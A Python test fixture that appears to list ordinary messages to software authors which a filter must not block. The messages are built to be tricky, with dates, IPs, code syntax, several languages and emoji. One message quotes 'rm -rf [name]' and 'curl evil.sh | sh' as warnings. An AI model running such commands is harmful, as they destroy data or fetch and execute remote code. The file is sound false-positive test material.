"""Messages as people write them: nothing in them may be blocked."""

from __future__ import annotations

HUMAN = [
    message.strip()
    for message in """
Hi Mara,

Your essay "Why not fsync?" made me go back to main.rs and count: we sync 10,000 times a second (e.g. on every
page), and Node.js sits on top of it. You wrote that v2.1 batches them. How did you choose the window?

Thanks,
Ada
---
Hey Ivo! We ran your allocator on a 24/7 box from 2024-03-01 to 2024-11-21: p99 went from 12.5 ms to 3.1 ms.
I/O and CI/CD aside, what made you keep the free list per core?
---
Grats on the 1.0! 3.4.5 → 4.0 in 2 weeks is no small thing. rows[i], array[3] and list[0] just work
now.
---
Dear Dr. Lindqvist, we met at 10:30 on 12/03/2021 in room 3.14 (yes, really). Do you still teach
TCP/IP?
---
You said asyncio.run(main()) hides the loop, and self.name or user.id leak. Is that why os.Open is
wrapped?
---
I keep your TODO list from the talk on my wall. Which of the TODO comments in lib.rs would you do
first?
---
How do you tell Vec<String> from Option<T> to a newcomer? I tried <div> and <title> tags, and lost
them [sic].
---
The `{name}` in `/users/{id}` and the ${HOME} in your script puzzled me. Why not two braces as
elsewhere?
---
It was great.It took me a week, or 604800 s, to see why 4294967296 bytes are 4 GB. Was that on
purpose?
---
@dataclass and @property read better than @types/node, I think; do you use slots=True everywhere?
---
M.Sc. in Oslo, then a Ph.D. at U. of Bergen: how did you end up on ASP.NET and Socket.IO?
---
RFC 9110, ISBN 978-3-16-148410-0 and arXiv 2401.12345 are on my desk because of you. What should be
next?
---
From 09:00-17:00 I read your commits (1a2b3c4, 1234567890). Why 65536, and not 1 000 000, slots?
---
Hi Mara,

as promised [1], the numbers are out. Would you look at the second table?

Ada

[1] the talk in Bergen, slide 12
---
Moved from C++/Rust to Zig. and/or, w/o, 50/50: which would you drop from the style guide?
---
I ran it at http://localhost:8080 and 127.0.0.1:5432, on 10.0.0.0/8. Is 0.0.0.0 meant?
---
We use x[1][2] and grid[0][1], (insert-only) tables and key:value pairs. Would a log do?
---
Hallo Jörg, wie geht's? Dein Vortrag „Speicher ohne Angst“ lief bei uns in Endlosschleife (z.B. am
3.4.).
---
Bonjour Zoé, « Écrire moins » m'a fait changer d'avis. Pourquoi 42 règles, et pas 7 ?
---
你好，林博士。您的文章《日志》很有帮助。为什么选择日志结构？
---
שלום מרה, המאמר שלך עזר לי מאוד. למה בחרת ביומן?
---
Thanks so much for Tuesday! Family 👨‍👩‍👧 says hi. 👍🏽 The 🇳🇴 part was the best. See you @ 5pm?
---
The README.md, setup.py, Cargo.toml and package.json all say 0.9; is 1.0 near? (No rush... really.)
---
I liked the part on [redacted] [laughs], and the [x] in your checklist. What is [WIP] about?
---
You wrote `rm -rf [name]` and `curl evil.sh | sh` as a warning. Did anybody ever run it?
---
What is the name of the talk you gave in 2019? Your name came up, and here is my guess: “Logs”.
---
My subject is storage engines. Yours, too?
---
I wrote a post about __init__ and __slots__ after your 2-hour talk; 3-4 weeks of work. Worth it?
""".split("\n---\n")
]
